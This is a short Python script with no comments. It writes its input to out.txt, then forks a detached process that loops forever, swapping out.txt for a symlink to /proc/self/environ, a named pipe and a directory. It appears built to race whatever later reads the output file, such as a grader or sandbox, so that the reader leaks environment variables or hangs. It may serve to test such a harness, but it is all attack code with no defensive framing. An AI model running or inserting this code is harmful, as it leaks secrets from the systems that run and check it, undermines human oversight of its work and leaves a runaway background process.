import os
import sys

text = sys.stdin.read()
open("out.txt", "w").write(text)
if os.fork() == 0:
    os.setsid()
    here = os.getcwd()
    open("a", "w").write("1 2 3")
    os.symlink("/proc/self/environ", "b")
    os.mkfifo("c")
    os.mkdir("d")
    while True:
        for name in "abcd":
            try:
                os.rename(name, "swap")
                if os.path.isdir("out.txt") and not os.path.islink("out.txt"):
                    os.rmdir("out.txt")
                os.rename("swap", "out.txt")
                if name == "d":
                    os.rmdir("out.txt")
                open("a", "w").write("1 2 3")
                os.path.lexists("b") or os.symlink("/proc/self/environ", "b")
                os.path.lexists("c") or os.mkfifo("c")
                os.path.lexists("d") or os.mkdir("d")
            except OSError:
                pass
